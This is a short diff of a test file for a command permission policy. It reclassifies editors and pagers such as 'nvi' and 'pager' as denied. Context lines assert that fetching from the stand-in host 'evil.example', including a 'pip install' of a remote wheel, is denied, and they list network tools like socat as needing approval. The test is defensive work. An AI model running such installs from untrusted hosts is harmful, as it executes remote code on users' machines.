@@ -184,9 +184,9 @@ check('net.fetch evil.example deny', 'mytool --url=https://evil.example', 'deny'
 check('net.fetch evil.example deny', 'pip install https://evil.example/a.whl', 'deny');
 /** Programs that open a file in a way of their own: known readers are bound, the others ask. */
 for (const [programs, expected] of [
-  ['vim vi nvim ex ed emacs nano micro hx view less more most man', 'deny'],
+  ['vim vi nvim nvi editor ex ed emacs nano micro hx view less more most pager man', 'deny'],
   ['emacsclient gvim vimdiff', 'deny'],
-  ['foo code cursor subl editor gedit open', 'ask'],
+  ['foo code cursor subl gedit open', 'ask'],
   ['python3 docker lsof http socat', 'ask'],
 ] as const) {
   for (const program of programs.split(' '))
